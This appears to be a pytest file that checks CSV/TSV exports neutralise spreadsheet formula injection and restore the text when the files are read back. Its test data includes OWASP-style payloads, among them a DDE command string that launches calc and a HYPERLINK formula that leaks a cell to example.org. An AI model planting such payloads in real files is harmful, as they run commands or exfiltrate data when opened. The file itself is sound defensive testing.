"""Text that a spreadsheet program would run as a formula: exports disarm it, and reading them gives it back."""

import csv
import io
import math
import time
from fractions import Fraction
from pathlib import Path
from typing import Any

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from headstart.errors import DataError
from headstart.tasks import read_table, write_table
from headstart.tasks.exports import table_bytes
from headstart.tasks.notations import MISSING_LABELS, parse
from headstart.tasks.text_tables import guarded, unguarded

SEPARATORS = {".csv": ",", ".tsv": "\t"}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
RUN = [  # what OWASP's page on CSV injection warns of, and what may be overlooked
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org?leak="&A1,"more")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "-old-",
    "-",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "=1;=2,=3\t=4",
    '="',
    "-007",
]


def runs(cell: str) -> bool:
    """Whether a spreadsheet program might run the cell; said once more here, without the pattern under test."""
    if any(not math.isnan(parse(cell, decimal)) for decimal in ".,"):
        return False
    return cell.startswith(TRIGGERS) or cell.lstrip(" \u00a0\u200b\ufeff\t\r\n").startswith(TRIGGERS)


def raw_cells(content: bytes, suffix: str) -> list[str]:
    """The cells as a spreadsheet program sees them, the names of the columns among them."""
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=SEPARATORS[suffix]) for cell in row]


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("formulas")


def there_and_back(frame: pd.DataFrame, suffix: str, folder: Path, **options: Any) -> pd.DataFrame:
    path = folder / f"history{suffix}"
    write_table(frame, path)
    return read_table(path, **options)


@pytest.mark.parametrize("suffix", SEPARATORS)
@pytest.mark.parametrize("text", RUN)
def test_what_would_run_gets_an_apostrophe_and_loses_it_again(text: str, suffix: str, tmp_path: Path) -> None:
    frame = pd.DataFrame({"pump": ["A", text, f"'{text}", f"''{text}"], text: [1, 2, 3, 4]})
    cells = raw_cells(table_bytes(frame, suffix), suffix)
    assert cells == ["pump", f"'{text}", "A", "1", f"'{text}", "2", f"''{text}", "3", f"'''{text}", "4"]
    back = there_and_back(frame, suffix, tmp_path)
    assert back["pump"].tolist() == frame["pump"].tolist()
    assert list(back.columns) == ["pump", " ".join(text.replace("\ufeff", "").split())]


@pytest.mark.parametrize("suffix", SEPARATORS)
def test_what_would_not_run_is_left_alone(suffix: str, tmp_path: Path) -> None:
    labels = ["A", "-5.2", "+3", "-1e-05", " -7", "'90s", "a=b", "O'Neill", "'", "''", "1-2", "#1", ".", " '=1"]
    frame = pd.DataFrame({"pump": labels, "-5.2": -0.5, "'T": np.arange(len(labels)) - 7})
    numbers = [cell for n in frame["'T"] for cell in ("-0.5", str(n))]
    cells = raw_cells(table_bytes(frame, suffix), suffix)
    assert cells[:3] == ["pump", "-5.2", "'T"]
    assert cells[3::3] == labels
    assert [cell for place, cell in enumerate(cells[3:]) if place % 3] == numbers
    pd.testing.assert_frame_equal(there_and_back(frame, suffix, tmp_path).reset_index(drop=True), frame)


def test_numbers_stay_numbers(tmp_path: Path) -> None:
    frame = pd.DataFrame({"x": [-5.2, np.nan, -np.inf], "n": [-1, 0, 1]})
    frame["mixed"] = pd.Series([-5.2, "=A", -3], dtype=object)
    frame["gap"] = pd.array([-1, None, 2], dtype="Int64")
    assert table_bytes(frame, ".csv") == b"x,n,mixed,gap\n-5.2,-1,-5.2,-1\n,0,'=A,\n-inf,1,-3,2\n"


def test_every_kind_of_column_is_looked_at() -> None:
    texts = ["=A", None, "B", "=A"]
    frame = pd.DataFrame(dict.fromkeys(("object", "string", "category"), texts), dtype=object)
    frame = frame.astype({"string": "string", "category": "category"})
    frame["other"] = [pd.Timedelta(hours=-1), Fraction(-1, 2), ["=A"], None]
    frame = frame.set_axis(["=x"] * 4, axis=1)  # names may repeat
    before = frame.copy()
    assert table_bytes(frame.set_axis([7, 7, 7, 7]), ".csv").decode().splitlines() == [
        "'=x,'=x,'=x,'=x",
        "'=A,'=A,'=A,'-1 days +23:00:00",
        ",,,'-1/2",
        "B,B,B,['=A']",
        "'=A,'=A,'=A,",
    ]
    pd.testing.assert_frame_equal(frame, before)
    whole_days = pd.DataFrame({"wait": pd.to_timedelta([1, 2], unit="D")})
    assert table_bytes(whole_days, ".csv") == b"wait\n1 days\n2 days\n"
    levels = pd.DataFrame([[1, 2]], columns=pd.MultiIndex.from_tuples([("=a", "-b"), ("c", -1)]))
    assert table_bytes(levels, ".csv") == b"'=a,c\n'-b,-1\n1,2\n"


def test_line_end_inside_a_cell_begins_no_row(tmp_path: Path) -> None:
    frame = pd.DataFrame({"pump": ["A\r=1+1", "B\r\n=1+1", "C\n=1+1"], "x": [1, 2, 3]})
    for suffix in SEPARATORS:
        assert len(raw_cells(table_bytes(frame, suffix), suffix)) == 8
        assert there_and_back(frame, suffix, tmp_path)["pump"].tolist() == frame["pump"].tolist()


signs = st.sampled_from([*TRIGGERS, *"'\", ;|ab57.", "\u00a0", "\ufeff", "é", "∞"])
characters = st.characters(codec="utf-8", exclude_categories=["Cc", "Cs"])
texts = st.lists(signs | characters, min_size=1, max_size=8).map("".join)


@settings(max_examples=500)
@given(text=texts | st.text())
def test_every_text_survives_its_guard(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert guarded(text) in (text, f"'{text}")
    assert not runs(guarded(text))


@pytest.mark.parametrize("suffix", SEPARATORS)
@settings(max_examples=150)
@given(labels=st.lists(texts, min_size=1, max_size=6))
@example(labels=RUN)
def test_labels_make_the_round_trip(suffix: str, labels: list[str], folder: Path) -> None:
    frame = pd.DataFrame({"pump": ["A", *labels, "B"], "x": range(len(labels) + 2)})
    assert not any(map(runs, raw_cells(table_bytes(frame, suffix), suffix)))
    back = there_and_back(frame, suffix, folder)
    known = [None if label.strip() in MISSING_LABELS else label for label in frame["pump"]]
    assert back["pump"].astype(object).where(back["pump"].notna(), None).tolist() == known
    assert back["x"].tolist() == frame["x"].tolist()


@pytest.mark.parametrize("suffix", SEPARATORS)
@settings(max_examples=150)
@given(name=texts.filter(lambda text: text.replace("\ufeff", "").strip()))
def test_names_of_columns_make_the_round_trip(suffix: str, name: str, folder: Path) -> None:
    frame = pd.DataFrame({"pump": ["A", "B"], name: ["C", "D"]})
    assert not any(map(runs, raw_cells(table_bytes(frame, suffix), suffix)))
    back = there_and_back(frame, suffix, folder, separator=SEPARATORS[suffix])
    assert list(back.columns) == ["pump", " ".join(name.replace("\ufeff", "").split())]


def test_workbook_needs_no_apostrophes(tmp_path: Path) -> None:
    labels = ["A", *(text for text in RUN if "\r" not in text), "'=1+1", "#N/A!"]  # XML knows no "\r"
    frame = pd.DataFrame({"pump": labels, "=1+1": range(len(labels))})
    back = there_and_back(frame, ".xlsx", tmp_path)
    pd.testing.assert_frame_equal(back.reset_index(drop=True), frame)
    sheet = openpyxl.load_workbook(io.BytesIO(table_bytes(frame, ".xlsx"))).active
    cells = [*sheet[1], *(row[0] for row in sheet.iter_rows(min_row=2))]
    assert {cell.data_type for cell in cells} == {"s"}
    assert [cell.value for cell in cells] == ["pump", "=1+1", *labels]


@pytest.mark.parametrize("suffix", [".csv", ".tsv", ".parquet", ".json", ".CSV"])
def test_bytes_are_those_of_the_file(suffix: str, tmp_path: Path) -> None:
    frame = pd.DataFrame({"pump": ["=A", "é"], "x": [-5.2, 1]})
    write_table(frame, tmp_path / f"next{suffix}")
    assert table_bytes(frame, suffix) == (tmp_path / f"next{suffix}").read_bytes()


@pytest.mark.parametrize(
    ("frame", "suffix", "words"),
    [
        (pd.DataFrame({"x": [1]}), ".doc", r"^There is no format '\.doc'\. Give .* \.csv, .* or \.json\.$"),
        (pd.DataFrame({"x": ["\x01"]}), ".xlsx", r"^This table cannot be written as \.xlsx: .* write \.csv\.$"),
        (
            pd.DataFrame({"x": ["\ud800"]}, dtype=object),
            ".csv",
            r"^This table cannot be written as \.csv: .*surrogates",
        ),
    ],
)
def test_bytes_that_cannot_be(frame: pd.DataFrame, suffix: str, words: str) -> None:
    with pytest.raises(DataError, match=words):
        table_bytes(frame, suffix)


@pytest.mark.parametrize("distinct", [5, 100_000])
def test_many_rows_take_no_time(distinct: int, tmp_path: Path) -> None:
    count = 100_000
    places = np.random.default_rng(0).integers(0, distinct, count)
    frame = pd.DataFrame({"pump": [f"=pump {place}" for place in places], "x": -np.arange(count) - 0.5})
    start = time.perf_counter()
    back = there_and_back(frame, ".csv", tmp_path)
    took = time.perf_counter() - start
    pd.testing.assert_frame_equal(back.reset_index(drop=True), frame)
    assert took < 20  # about one second; the room is for a busy machine
